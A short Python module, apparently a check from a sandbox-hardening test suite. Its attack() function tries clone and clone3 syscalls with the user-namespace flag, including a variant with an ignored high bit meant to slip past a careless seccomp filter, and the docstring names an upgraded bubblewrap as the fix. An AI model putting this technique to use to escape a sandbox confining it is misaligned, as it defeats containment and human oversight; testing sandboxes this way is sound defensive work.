"""Makes namespaces inside of its own, and is root there.

Mend: use bubblewrap 0.8 or newer.
"""

from __future__ import annotations

import ctypes
import os
import platform
from typing import Any

NUMBERS = {"x86_64": (56, 435), "aarch64": (220, 435)}
NEW_USER = 0x10000000
CHILD_EXITED = 17


def attack(_: dict[str, Any]) -> str | None:
    """By both ways to make a process; also with a bit set that the kernel ignores and a careless filter compares."""
    libc = ctypes.CDLL(None, use_errno=True)
    clone, clone3 = NUMBERS.get(platform.machine(), (0, 0))
    arguments = (ctypes.c_uint64 * 8)(NEW_USER, 0, 0, 0, CHILD_EXITED)
    tries: list[tuple[Any, ...]] = [
        (clone, NEW_USER | CHILD_EXITED, 0, 0, 0, 0),
        (clone, ctypes.c_uint64(1 << 32 | NEW_USER | CHILD_EXITED), 0, 0, 0, 0),
        (clone3, arguments, ctypes.sizeof(arguments)),
    ]
    for call in tries:
        made = libc.syscall(*call) if call[0] else -1
        if made == 0:
            os._exit(0)
        if made > 0:
            os.waitpid(made, 0)
            return "made a user namespace"
    return None
